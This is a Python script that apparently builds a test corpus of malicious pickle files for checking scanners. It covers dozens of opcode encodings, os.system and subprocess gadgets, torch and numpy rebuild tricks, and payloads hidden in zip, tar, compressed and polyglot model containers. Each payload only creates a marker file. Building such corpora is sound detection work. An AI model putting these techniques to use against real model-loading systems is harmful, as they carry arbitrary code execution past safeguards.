#!/usr/bin/env python3
"""Write pickles that run something when Python loads them, of many kinds, and a manifest of them.

usage: pickle_zoo.py FOLDER [--verify]

FOLDER/exploits/NAME and FOLDER/manifest.json: {NAME: {"load": how it would be loaded, "kind": KIND}}. Every payload creates the
file FOLDER/ran or something beside it, and nothing here loads one, unless --verify asks for it: then each is loaded in a process
of its own, and "effective" says whether FOLDER/ran came to be. Kinds: an opcode, a way to name, a gadget, a container.
"""

import contextlib
import gzip
import io
import json
import os
import pathlib
import pickle
import shutil
import struct
import sys
import tarfile
import time
import zipfile

PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"


# Plain values as opcodes.
def value(v):
    if v is None:
        return b"N"
    if v is True or v is False:
        return b"\x88" if v else b"\x89"
    if isinstance(v, Raw):
        return v.code
    if isinstance(v, int):
        return b"J" + struct.pack("<i", v)
    if isinstance(v, str):
        raw = v.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw
    if isinstance(v, bytes):
        return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, list):
        return b"(" + b"".join(map(value, v)) + b"l"
    if isinstance(v, tuple):
        return b"(" + b"".join(map(value, v)) + b"t"
    if isinstance(v, dict):
        return b"(" + b"".join(value(k) + value(x) for k, x in v.items()) + b"d"
    raise TypeError(v)


class Raw:
    """Opcodes that leave one value on the stack."""

    def __init__(self, code):
        self.code = code


def glob(module, name):
    return Raw(f"c{module}\n{name}\n".encode())


def stack_glob(module, name):
    return Raw(value(module) + value(name) + b"\x93")


def call(function, *arguments):
    return Raw(value(function) + value(tuple(arguments)) + b"R")


# Ways to write `module.name(*arguments)`; each gives a whole pickle.
def text(s):
    return f"S{s!r}\n".encode() if isinstance(s, str) else value(s)


def way_global0(m, n, a):
    return f"c{m}\n{n}\n(".encode() + b"".join(map(text, a)) + b"tR."


def way_global2(m, n, a):
    return PROTO2 + value(call(glob(m, n), *a)) + b"."


def way_stack(m, n, a):
    return PROTO4 + value(call(stack_glob(m, n), *a)) + b"."


def way_memo(m, n, a):
    """The two names come out of the memo, with others laid over them in between."""
    head = PROTO4 + value("collections") + b"\x94" + value(m) + b"\x94" + value(n) + b"\x94000"
    return head + b"h\x01h\x02\x93" + value(tuple(a)) + b"R."


def way_memo_put(m, n, a):
    """Memo 5 is written twice: first harmless, then not."""
    head = PROTO4 + value("collections") + b"q\x050" + value(m) + b"q\x050" + value(n) + b"q\x060"
    return head + b"h\x05h\x06\x93" + value(tuple(a)) + b"R."


def way_inst(m, n, a):
    return b"(" + b"".join(map(value, a)) + f"i{m}\n{n}\n.".encode()


def way_obj(m, n, a):
    return b"(" + value(glob(m, n)) + b"".join(map(value, a)) + b"o."


def way_in_state(m, n, a):
    """Deep in something that looks like a state dict."""
    inner = {"model": {"weight": [1, 2, 3]}, "extra": (1, [call(glob(m, n), *a)])}
    return PROTO2 + value(inner) + b"."


def way_popped(m, n, a):
    """The result is thrown away: what stays is a plain dict."""
    return PROTO2 + value(call(glob(m, n), *a)) + b"0" + value({"w": 1}) + b"."


def way_frame(m, n, a):
    body = value(call(stack_glob(m, n), *a)) + b"."
    return b"\x80\x05\x95" + struct.pack("<Q", len(body)) + body


def way_broken(m, n, a):
    """Breaks behind the call: an unpickler has run it by then."""
    return PROTO2 + value(call(glob(m, n), *a)) + b"\xff\xff\xff"


def way_cut(m, n, a):
    return PROTO2 + value(call(glob(m, n), *a)) + b"X\xff\xff\x00\x00cut"


def way_unicode(m, n, a):
    """Names as protocol 0 escapes them, joined by STACK_GLOBAL."""
    escaped = ["".join(f"\\u{ord(c):04x}" for c in part) for part in (m, n)]
    return PROTO4 + "".join(f"V{e}\n" for e in escaped).encode() + b"\x93" + value(tuple(a)) + b"R."


def way_setstate(m, n, a):
    """BUILD twice: the first sets __setstate__ on the instance, the second calls it. One argument."""
    head = PROTO2 + b"cargparse\nNamespace\n)\x81"
    return head + value({"__setstate__": glob(m, n)}) + b"b" + value(a[0]) + b"b."


def way_rebuild(m, n, a):
    """torch's own rebuild calls what it is told to."""
    return PROTO2 + value(call(glob("torch._tensor", "_rebuild_from_type_v2"), glob(m, n), glob("torch", "Tensor"), tuple(a), None)) + b"."


def way_partial(m, n, a):
    return PROTO2 + value(call(call(glob("functools", "partial"), glob(m, n), *a))) + b"."


def way_map(m, n, a):
    return PROTO2 + value(call(glob("builtins", "list"), call(glob("builtins", "map"), glob(m, n), *[[x] for x in a]))) + b"."


def way_getattr(m, n, a):
    module = call(glob("importlib", "import_module"), m)
    return PROTO2 + value(call(call(glob("builtins", "getattr"), module, n), *a)) + b"."


def way_dunder_import(m, n, a):
    module = call(glob("builtins", "__import__"), m)
    return PROTO2 + value(call(call(glob("builtins", "getattr"), module, n), *a)) + b"."


def way_methodcaller(m, n, a):
    module = call(glob("importlib", "import_module"), m)
    return PROTO2 + value(call(call(glob("operator", "methodcaller"), n, *a), module)) + b"."


def way_attrgetter(m, n, a):
    module = call(glob("importlib", "import_module"), m)
    return PROTO2 + value(call(call(glob("operator", "attrgetter"), n), module)) + value(tuple(a)) + b"R."


def way_python2(m, n, a):
    return PROTO2 + value(call(call(glob("__builtin__", "getattr"), call(glob("__builtin__", "__import__"), m), n), *a)) + b"."


def way_append(m, n, a):
    """APPEND calls the append of whatever stands there: a deque of a class with one's own."""
    made = call(glob("builtins", "type"), "T", (glob("builtins", "object"),), {"append": glob(m, n), "extend": glob(m, n)})
    # The class itself is the target: T.append is then the plain function.
    return PROTO2 + value(made) + value(a[0]) + b"a."


def way_ext(m, n, a):
    """The call registers a code and then uses it."""
    head = PROTO2 + value(call(glob("copyreg", "add_extension"), m, n, 0x41)) + b"0"
    return head + b"\x82\x41" + value(tuple(a)) + b"R."


def way_dictget(m, n, a):
    module = call(glob("builtins", "vars"), call(glob("builtins", "__import__"), m))
    return PROTO2 + value(call(call(glob("operator", "getitem"), module, n), *a)) + b"."


def way_computed(m, n, a):
    """The name is made by a call, so that it stands nowhere in the file."""
    made = call(glob("builtins", "str"), n[::-1].encode()[::-1], "ascii")
    return PROTO4 + value(m) + value(made) + b"\x93" + value(tuple(a)) + b"R."


WAYS = [(k[4:], v) for k, v in list(globals().items()) if k.startswith("way_")]


def gadgets(ran):
    """(module, name, arguments): what runs a command, evaluates, or writes FOLDER/ran by itself."""
    touch = f"touch {ran}"
    code = f"open({ran!r}, 'w')"
    return [
        ("os", "system", (touch,)),
        ("posix", "system", (touch,)),
        ("os", "popen", (touch,)),
        ("subprocess", "Popen", (["touch", ran],)),
        ("subprocess", "run", (["touch", ran],)),
        ("subprocess", "call", (["touch", ran],)),
        ("subprocess", "check_call", (["touch", ran],)),
        ("subprocess", "check_output", (["touch", ran],)),
        ("subprocess", "getoutput", (touch,)),
        ("subprocess", "getstatusoutput", (touch,)),
        ("builtins", "eval", (code,)),
        ("builtins", "exec", (code,)),
        ("builtins", "open", (ran, "w")),
        ("io", "open", (ran, "w")),
        ("_io", "open", (ran, "w")),
        ("io", "FileIO", (ran, "w")),
        ("_io", "FileIO", (ran, "w")),
        ("codecs", "open", (ran, "w")),
        ("os", "mkdir", (ran,)),
        ("posix", "mkdir", (ran,)),
        ("os", "makedirs", (ran,)),
        ("posix", "symlink", ("/", ran)),
        ("os", "spawnvp", (0, "touch", ["touch", ran])),
        ("os", "posix_spawnp", ("touch", ["touch", ran], {})),
        ("os", "execvp", ("touch", ["touch", ran])),
        ("pty", "spawn", (["touch", ran],)),
        ("shutil", "copyfile", ("/etc/hostname", ran)),
        ("shutil", "copy", ("/etc/hostname", ran)),
        ("runpy", "_run_code", (call(glob("builtins", "compile"), code, "x", "exec"), {})),
        ("timeit", "timeit", (code, "pass", call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), "timeit"), "default_timer"), 1)),
        ("timeit", "main", (["-n1", "-r1", code],)),
        ("cProfile", "run", (code,)),
        ("cProfile", "runctx", (code, {}, {})),
        ("profile", "run", (code,)),
        ("bdb", "Bdb.run", (call(glob("bdb", "Bdb")), code)),
        ("trace", "Trace.run", (call(glob("trace", "Trace")), code)),
        ("code", "InteractiveInterpreter.runsource", (call(glob("code", "InteractiveInterpreter")), code)),
        ("doctest", "script_from_examples", ("x",)),
        ("tarfile", "open", (ran, "w")),
        ("zipfile", "ZipFile", (ran, "w")),
        ("gzip", "open", (ran, "wb")),
        ("bz2", "open", (ran, "wb")),
        ("lzma", "open", (ran, "wb")),
        ("sqlite3", "connect", (ran,)),
        ("dbm.dumb", "open", (ran, "n")),
        ("shelve", "open", (ran, "n")),
        ("logging", "FileHandler", (ran,)),
        ("logging.handlers", "RotatingFileHandler", (ran,)),
        ("tempfile", "mkdtemp", ("", "ran", os.path.dirname(ran))),
        ("pathlib", "Path.touch", (call(glob("pathlib", "Path"), ran),)),
        ("pathlib", "Path.write_text", (call(glob("pathlib", "Path"), ran), "x")),
        ("pathlib", "Path.mkdir", (call(glob("pathlib", "Path"), ran),)),
        ("pathlib", "PosixPath.touch", (call(glob("pathlib", "PosixPath"), ran),)),
        ("uuid", "_get_command_stdout", ("touch", ran)),
        ("_osx_support", "_read_output", (touch,)),
        ("_aix_support", "_read_cmd_output", (touch,)),
        ("multiprocessing.util", "spawnv_passfds", (b"/usr/bin/touch", ["touch", ran], ())),
        ("test.support.script_helper", "assert_python_ok", ("-c", code)),
        ("distutils.file_util", "write_file", (ran, ["x"])),
        ("distutils.spawn", "spawn", (["touch", ran],)),
        ("setuptools._distutils.spawn", "spawn", (["touch", ran],)),
        ("ensurepip", "_run_pip", (["--version"],)),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", (None, code)),
        ("lib2to3.pgen2.driver", "load_grammar", (ran,)),
        ("numpy.testing._private.utils", "runstring", (code, {})),
        ("numpy.f2py.crackfortran", "myeval", (code.replace("open", "__import__('io').open"), {}, {})),
        ("numpy.f2py.crackfortran", "param_eval", (code, {}, {}, None)),
        ("numpy", "save", (ran, [1])),
        ("numpy", "savetxt", (ran, [1])),
        ("numpy", "memmap", (ran, "uint8", "w+", 0, (4,))),
        ("numpy.core._internal", "eval", (code,)),
        ("torch", "save", ([1], ran)),
        ("torch.serialization", "save", ([1], ran)),
        ("torch.serialization", "os.system", (touch,)),
        ("torch", "serialization.os.system", (touch,)),
        ("torch.hub", "load", (os.path.dirname(ran), "model", None, "local")),
        ("torch.hub", "_import_module", ("hubconf", os.path.join(os.path.dirname(ran), "hubconf.py"))),
        ("torch.utils.collect_env", "run", (touch,)),
        ("torch.utils.bottleneck.__main__", "run_cprofile", (code, {})),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", pickle.dumps(Evil(touch)))),
        ("torch.storage", "_load_from_bytes", (pickle.dumps(Evil(touch)),)),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (code, {}, {})),
        ("torch.testing._internal.common_utils", "run_tests", ()),
        ("torch.multiprocessing", "spawn", (glob("builtins", "print"),)),
        ("torch._utils", "_import_dotted_name", ("os.system",)),
        ("torch.fx.graph_module", "_exec_with_source", (code, {})),
        ("torch.fx.graph_module", "_forward_from_src", (f"def forward(): pass\n{code}", {})),
        ("torch._dynamo.guards", "eval", (code,)),
        ("torch.distributed.launcher.api", "os.system", (touch,)),
        ("random", "_os.system", (touch,)),
        ("argparse", "_os.system", (touch,)),
        ("argparse", "_sys.modules", ()),
        ("collections", "_sys.exit", (3,)),
        ("logging", "os.system", (touch,)),
        ("tempfile", "_os.system", (touch,)),
        ("pathlib", "os.system", (touch,)),
        ("functools", "reduce", (glob("os", "system"), [touch], 0)),
        ("datetime", "sys.exit", (3,)),
        ("transformers.training_args", "os.system", (touch,)),
        ("transformers.trainer_utils", "os.system", (touch,)),
        ("numpy", "os.system", (touch,)),
        ("dataclasses", "sys.exit", (3,)),
        ("pickle", "loads", (pickle.dumps(Evil(touch)),)),
        ("_pickle", "loads", (pickle.dumps(Evil(touch)),)),
        ("pickle", "_loads", (pickle.dumps(Evil(touch)),)),
        ("dill", "loads", (pickle.dumps(Evil(touch)),)),
        ("ctypes", "CDLL", ("libc.so.6",)),
        ("webbrowser", "open", ("http://localhost:9",)),
        ("socket", "create_connection", (("localhost", 9),)),
        ("urllib.request", "urlretrieve", ("file:///etc/hostname", ran)),
        ("urllib.request", "urlopen", ("file:///etc/hostname",)),
        ("http.client", "HTTPSConnection", ("localhost",)),
        ("smtplib", "SMTP", ("localhost", 9)),
        ("ftplib", "FTP", ("localhost",)),
        ("asyncio", "run", (None,)),
        ("concurrent.futures", "ThreadPoolExecutor", (1,)),
        ("threading", "Thread", ()),
        ("signal", "raise_signal", (2,)),
        ("atexit", "register", (glob("os", "system"), touch)),
        ("atexit", "_run_exitfuncs", ()),
        ("weakref", "finalize", (glob("collections", "OrderedDict"), glob("os", "system"), touch)),
        ("builtins", "__import__", ("antigravity",)),
        ("builtins", "breakpoint", ()),
        ("builtins", "input", ()),
        ("builtins", "exit", ()),
        ("importlib", "import_module", ("this",)),
        ("importlib.util", "spec_from_file_location", ("x", ran)),
        ("pkgutil", "resolve_name", ("os:system",)),
        ("pydoc", "pipepager", ("x", touch)),
        ("pydoc", "tempfilepager", ("x", touch)),
        ("pydoc", "locate", ("os.system",)),
        ("site", "execsitecustomize", ()),
        ("venv", "create", (ran,)),
        ("zipapp", "create_archive", (os.path.dirname(ran),)),
        ("compileall", "compile_dir", (os.path.dirname(ran),)),
        ("py_compile", "compile", (ran,)),
        ("linecache", "updatecache", ("/etc/hostname",)),
        ("inspect", "getsource", (glob("os", "getpid"),)),
        ("types", "FunctionType", (call(glob("builtins", "compile"), code, "x", "exec"), {})),
        ("types", "CodeType", ()),
        ("marshal", "loads", (b"N",)),
        ("sympy", "sympify", (code,)),
        ("pandas", "eval", (code,)),
        ("pandas", "read_pickle", (ran,)),
        ("joblib", "load", (ran,)),
        ("pip._internal.cli.main", "main", (["--version"],)),
        ("deepspeed.launcher.runner", "main", ()),
        ("accelerate.launchers", "notebook_launcher", (glob("builtins", "print"),)),
        ("huggingface_hub", "snapshot_download", ("nobody/nothing",)),
        ("transformers.dynamic_module_utils", "get_class_in_module", ("X", ran)),
        ("mymodule", "run_me", ()),
        ("my_package.utils", "Loader", ("x",)),
    ]


class Evil:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def npy(objects):
    out = io.BytesIO()
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    out.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + objects)
    return out.getvalue()


def zipped(members, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def containers(ran):
    """(name, bytes, how it is loaded)."""
    import torch

    touch = f"touch {ran}"
    evil = way_global2("os", "system", (touch,))
    plain = pickle.dumps({"a": 1})
    out = io.BytesIO()
    torch.save({"w": torch.ones(3)}, out)
    good = out.getvalue()
    out = io.BytesIO()
    torch.save({"w": torch.ones(3)}, out, _use_new_zipfile_serialization=False)
    legacy = out.getvalue()
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        members = [(n, archive.read(n)) for n in archive.namelist()]
    root = members[0][0].split("/")[0]
    replaced = [(n, evil if n.endswith("data.pkl") else c) for n, c in members]
    yield "zip_data.pt", zipped(replaced), "torch"
    yield "zip_deflated.pt", zipped(replaced, zipfile.ZIP_DEFLATED), "member:" + root + "/data.pkl"
    yield "zip_extra_pkl.pt", zipped([*members, (root + "/extra.pkl", evil)]), "member:" + root + "/extra.pkl"
    yield "zip_extra_pickle.pt", zipped([*members, (root + "/x.pickle", evil)]), "member:" + root + "/x.pickle"
    yield "zip_extra_bin.pt", zipped([*members, (root + "/x.bin", evil)]), "member:" + root + "/x.bin"
    yield "zip_no_ending.pt", zipped([*members, ("payload", evil)]), "member:payload"
    yield "zip_other_root.pt", zipped([*members, ("other/data.pkl", evil)]), "member:other/data.pkl"
    yield "zip_nested.pt", zipped([*members, ("inner.pt", zipped(replaced))]), "member:inner.pt:torch"
    yield "zip_nested_thrice.pt", zipped([("a.zip", zipped([("b.zip", zipped([("c.pkl", evil)]))]))]), "static"
    yield "zip_bin_only.zip", zipped([("pytorch_model.bin", zipped(replaced))]), "member:pytorch_model.bin:torch"
    yield "zip_behind_junk.bin", b"junk\n" + zipped([("x.pkl", evil)]), "member:x.pkl"
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield "zip_twice_first.pt", zipped([(n, evil) for n, _ in members if n.endswith("data.pkl")] + members), "static"
        yield "zip_twice_last.pt", zipped([*members, *[(n, evil) for n, _ in members if n.endswith("data.pkl")]]), "member:" + root + "/data.pkl"
    yield "zip_unlisted.pt", zipped([("hidden.pkl", evil)]).split(b"PK\x01\x02")[0] + good, "static"
    other = bytearray(zipped([("x.pkl", evil)]))
    other[30:35] = b"y.txt"
    yield "zip_two_names.zip", bytes(other), "static"
    locked = bytearray(zipped([("x.pkl", evil)]))
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield "zip_encrypted_flag.zip", bytes(locked), "static"
    odd = bytearray(zipped([("x.pkl", evil)]))
    odd[odd.index(b"PK\x01\x02") + 10] = 12
    yield "zip_odd_method.zip", bytes(odd), "static"
    yield "zip_bzip2.zip", zipped([("x.pkl", evil)], zipfile.ZIP_BZIP2), "member:x.pkl"
    yield "zip_lzma.zip", zipped([("x.pkl", evil)], zipfile.ZIP_LZMA), "member:x.pkl"
    yield "zip_cut.pt", zipped(replaced)[:-30], "static"
    yield "zip_npy_objects.npz", zipped([("arr_0.npy", npy(evil))]), "numpy"
    yield "npy_objects.npy", npy(evil), "numpy"
    starts = [i for i in range(len(legacy)) if legacy[i : i + 2] == b"\x80\x02"]
    for count, at in enumerate(starts[:5]):
        yield f"legacy_stream_{count}.pt", legacy[:at] + evil + legacy[at:], "stream"
    yield "legacy_behind.pt", legacy + evil, "static"
    yield "legacy_object.pt", legacy[: starts[3]] + evil + legacy[starts[4] :], "torch"
    yield "second_in_row.pkl", plain + evil, "stream"
    yield "third_in_row.pkl", plain + plain + evil, "stream"
    yield "hundredth_in_row.pkl", plain * 99 + evil, "stream"
    yield "second_proto0.pkl", plain + way_global0("os", "system", (touch,)), "stream"
    yield "behind_junk.pkl", b"\x00junk junk" + evil, "skip:10"
    yield "behind_junk4.pt", b"#!/bin/sh\n" + way_stack("posix", "system", (touch,)), "skip:10"
    yield "behind_zeros.bin", plain + b"\0" * 64 + evil, "static"
    yield "gzip.pkl.gz", gzip.compress(evil), "gzip"
    yield "gzip_named_pkl.pkl", gzip.compress(evil), "gzip"
    import bz2
    import lzma
    import zlib

    yield "bz2.pkl", bz2.compress(evil), "bz2"
    yield "xz.pkl", lzma.compress(evil), "xz"
    yield "zlib.joblib", zlib.compress(evil), "zlib"
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in (("sys_info", plain), ("pickle", evil)):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    yield "torch01.tar.pt", tar.getvalue(), "static"
    yield "polyglot_gguf.pkl", b"GGUF" + b"\0" * 5 + b"0" + evil[2:], "pickle"
    yield "polyglot_safetensors.pt", b"X\x0a\0\0\0" + b"\0\0\0{      " + b"0" + evil[2:] + b" " * 3000, "pickle"
    yield "polyglot_zip.pt", evil[:-1] + b"." + good, "pickle"
    yield "bytes_in_bytes.pkl", PROTO2 + value(call(glob("torch.storage", "_load_from_bytes"), zipped(replaced))) + b".", "pickle"
    yield "bytes_thrice.pkl", PROTO2 + value(call(glob("torch.storage", "_load_from_bytes"), PROTO2 + value(call(glob("torch.storage", "_load_from_bytes"), evil)) + b".")) + b".", "pickle"
    yield "extension_code.pkl", PROTO2 + b"\x82\x01)R.", "static"
    yield "extension_code2.pkl", PROTO2 + b"\x83\x01\x02)R.", "static"
    yield "extension_code4.pkl", PROTO2 + b"\x84\x01\x02\x00\x00)R.", "static"
    yield "persistent_line.pkl", b"Pos.system\n.", "static"
    yield "persistent_tuple.pt", PROTO2 + value(("evil", "x")) + b"Q.", "static"
    yield "persistent_storage.pt", PROTO2 + value(("storage", glob("os", "system"), "0", "cpu", 1)) + b"Q.", "static"
    yield "class_attributes.pkl", PROTO2 + value(glob("torch.nn.modules.linear", "Linear")) + value((None, {"__setstate__": 1})) + b"b.", "static"
    yield "newobj_popen.pkl", PROTO2 + value(glob("subprocess", "Popen")) + b")\x81.", "static"
    yield "newobj_ex.pkl", PROTO4 + value(glob("subprocess", "Popen")) + b")}\x92.", "static"
    yield "constructor.pkl", PROTO2 + value(call(glob("torch.nn.modules.module", "Module"), 1, 2)) + b".", "static"
    yield "reconstructor.pkl", PROTO2 + value(call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("builtins", "object"), None)) + b".", "static"
    yield "truncated.pkl", pickle.dumps({"a": list(range(1000))})[:500], "static"
    yield "unknown_opcode.pkl", PROTO2 + b"\xf0.", "static"
    yield "memo_unset.pkl", PROTO2 + b"h\x09.", "static"
    yield "underflow.pkl", PROTO2 + b"0.", "static"
    yield "protocol9.pkl", b"\x80\x09N.", "static"


def write(folder):
    folder.mkdir(parents=True, exist_ok=True)
    ran = str((folder / "ran").absolute())
    (folder / "hubconf.py").write_text(f"def model():\n    pass\nopen({ran!r}, 'w')\n")
    exploits = folder / "exploits"
    exploits.mkdir(exist_ok=True)
    manifest = {}

    def add(name, content, load, kind):
        (exploits / name).write_bytes(content)
        manifest[name] = {"load": load, "kind": kind}

    touch = f"touch {ran}"
    for name, way in WAYS:
        add(f"way_{name}.pkl", way("os", "system", (touch,)), "pickle", "way to write a call")
        if name not in ("python2",):
            add(f"way_{name}_dotted.pkl", way("random", "_os.system", (touch,)), "pickle", "dotted name")
    simple = [dict(WAYS)[k] for k in ("stack", "global2", "memo", "in_state", "popped", "frame")]
    for i, (module, name, arguments) in enumerate(gadgets(ran)):
        way = way_stack if "." in name else simple[i % len(simple)]
        add(f"gadget_{module}.{name}.pkl", way(module, name, arguments), "pickle", "gadget")
    for name, content, load in containers(ran):
        add(f"container_{name}", content, load, "container")
    return manifest


def load(path, how):
    """In a process of its own."""
    import torch

    raw = path.read_bytes()
    if how == "pickle":
        pickle.loads(raw)
    elif how == "torch":
        torch.load(path, weights_only=False)
    elif how == "stream":
        stream = io.BytesIO(raw)
        while True:
            pickle.load(stream)
    elif how.startswith("skip:"):
        pickle.loads(raw[int(how[5:]) :])
    elif how.startswith("member:"):
        name, _, inner = how[7:].partition(":")
        content = zipfile.ZipFile(path).read(name)
        torch.load(io.BytesIO(content), weights_only=False) if inner else pickle.loads(content)
    elif how == "numpy":
        import numpy

        got = numpy.load(path, allow_pickle=True)
        got["arr_0"] if hasattr(got, "files") else None
    elif how in ("gzip", "bz2", "xz", "zlib"):
        import bz2
        import lzma
        import zlib

        unpack = {"gzip": gzip.decompress, "bz2": bz2.decompress, "xz": lzma.decompress, "zlib": zlib.decompress}
        pickle.loads(unpack[how](raw))


def verify(folder, manifest):
    import signal

    import numpy  # noqa: F401
    import torch  # noqa: F401

    ran = folder / "ran"
    for name, entry in manifest.items():
        shutil.rmtree(ran, ignore_errors=True)
        ran.unlink(missing_ok=True) if ran.is_symlink() or ran.exists() else None
        before = set(os.listdir(folder))
        child = os.fork()
        if child == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for stream in (0, 1, 2):
                os.dup2(null, stream)
            os.chdir(folder)
            signal.alarm(20)
            with contextlib.suppress(BaseException):  # whatever it raises, what it did is looked at
                load(folder / "exploits" / name, entry["load"])
            os._exit(0)
        os.waitpid(child, 0)
        for _ in range(10):
            if set(os.listdir(folder)) != before or entry["load"] == "static":
                break
            time.sleep(0.02)
        entry["effective"] = set(os.listdir(folder)) != before
        for extra in set(os.listdir(folder)) - before - {"ran"}:
            target = folder / extra
            shutil.rmtree(target) if target.is_dir() else target.unlink()


def main():
    folder = pathlib.Path(sys.argv[1]).absolute()
    manifest = write(folder)
    if "--verify" in sys.argv:
        verify(folder, manifest)
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=1))
    print(len(manifest), "exploits", sum(e.get("effective", False) for e in manifest.values()), "seen to run")


if __name__ == "__main__":
    main()
